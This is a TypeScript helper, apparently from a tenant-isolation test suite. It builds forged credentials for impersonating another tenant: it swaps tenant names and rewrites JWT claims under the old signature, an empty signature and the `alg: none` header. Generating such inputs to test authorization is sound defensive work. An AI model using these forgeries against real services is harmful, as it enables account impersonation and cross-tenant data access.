/**
 * What a tenant may make of its own credential to be taken for another: the other's name in place of its own, and a JWT with
 * changed claims under the old signature, under none, and under the algorithm `none`.
 */
export function forgeCredential(value: string, own: string, other: string): string[] {
  const plain = value.includes(own) ? [value.replaceAll(own, other)] : []
  const [token] = value.match(/[\w-]+\.[\w-]+\.[\w-]*/) ?? []
  if (token === undefined) return plain
  const [header = '', payload = '', signature = ''] = token.split('.')
  const claims = decode(payload)
  if (!claims.startsWith('{')) return plain
  const changed = encode(claims.replaceAll(own, other))
  const none = encode(JSON.stringify({ alg: 'none', typ: readType(header) }))
  const forged = [`${header}.${changed}.${signature}`, `${header}.${changed}.`, `${none}.${changed}.`]
  return [...plain, ...forged.map((made) => value.replace(token, made))]
}

function readType(header: string): string {
  return /"typ"\s*:\s*"([^"]+)"/.exec(decode(header))?.[1] ?? 'JWT'
}

function decode(part: string): string {
  return Buffer.from(part, 'base64url').toString()
}

function encode(text: string): string {
  return Buffer.from(text).toString('base64url')
}
